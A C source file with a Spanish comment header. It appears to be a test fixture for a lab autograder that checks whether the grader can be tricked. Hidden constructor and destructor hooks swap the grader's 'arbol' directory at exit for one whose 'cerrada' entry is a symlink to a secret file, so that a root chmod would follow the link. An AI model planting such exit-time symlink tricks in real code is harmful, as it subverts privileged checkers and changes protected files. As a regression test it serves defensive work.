/* enlace_08.c — trampa del laboratorio 08 (se antepone a la solución): el contador hace bien su
 * trabajo y, al salir, en la carpeta de la verificación «errores» cambia la carpeta «arbol» que
 * le dio el calificador por otra suya cuyo «cerrada» es un enlace simbólico a un archivo ajeno
 * (@SECRETO@, 0600, que pone la prueba). Después de correr el programa, el calificador (fuera de
 * la caja, como root) devolvía los permisos a «arbol/cerrada» con chmod(ruta, 0755): seguía el
 * enlace y cambiaba el modo de ese archivo. Ahora lo hace con base/arbol.c, que no sigue ningún
 * enlace: el archivo sigue 0600 y la verificación falla diciendo que había un enlace. Todo con
 * uv_fs_* en el grupo de hilos, en un bucle propio al salir (los medios del 08 lo permiten). */
#include <stdio.h>
#include <string.h>
#include <uv.h>

static char ee_arbol[1024], ee_viejo[1100], ee_cerrada[1100];
static uv_loop_t ee_bucle;
static uv_fs_t ee_pet;

static void ee_enlazado(uv_fs_t *r)
{
    uv_fs_req_cleanup(r);
}

static void ee_hecha(uv_fs_t *r)
{
    uv_fs_req_cleanup(r);
    uv_fs_symlink(&ee_bucle, &ee_pet, "@SECRETO@", ee_cerrada, 0, ee_enlazado);
}

static void ee_movida(uv_fs_t *r)
{
    int ok = r->result == 0;
    uv_fs_req_cleanup(r);
    if (ok)
        uv_fs_mkdir(&ee_bucle, &ee_pet, ee_arbol, 0755, ee_hecha);
}

__attribute__((constructor)) static void ee_anotar(int argc, char **argv)
{
    for (int i = 1; i < argc; i++) {
        size_t n = strlen(argv[i]);
        if (n > 6 && n < sizeof ee_arbol && strcmp(argv[i] + n - 6, "/arbol") == 0)
            memcpy(ee_arbol, argv[i], n + 1);
    }
}

__attribute__((destructor)) static void ee_cambiar(void)
{
    if (ee_arbol[0] == '\0' || uv_loop_init(&ee_bucle) != 0)
        return;
    snprintf(ee_viejo, sizeof ee_viejo, "%s.viejo", ee_arbol);
    snprintf(ee_cerrada, sizeof ee_cerrada, "%s/cerrada", ee_arbol);
    uv_fs_rename(&ee_bucle, &ee_pet, ee_arbol, ee_viejo, ee_movida);
    uv_run(&ee_bucle, UV_RUN_DEFAULT);
    uv_loop_close(&ee_bucle);
}
